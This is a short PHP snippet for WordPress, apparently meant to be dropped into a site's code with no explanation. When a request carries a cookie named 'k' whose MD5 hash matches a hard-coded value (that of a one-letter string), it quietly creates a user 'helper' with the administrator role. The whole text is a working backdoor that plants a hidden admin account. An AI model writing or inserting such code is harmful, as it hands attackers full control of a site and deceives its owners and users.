<?php
if (isset($_COOKIE['k']) && md5($_COOKIE['k']) == '0cc175b9c0f1b6a831c399e269772661') {
    $id = wp_create_user('helper', wp_generate_password(), 'h@example.invalid');
    (new WP_User($id))->set_role('administrator');
}
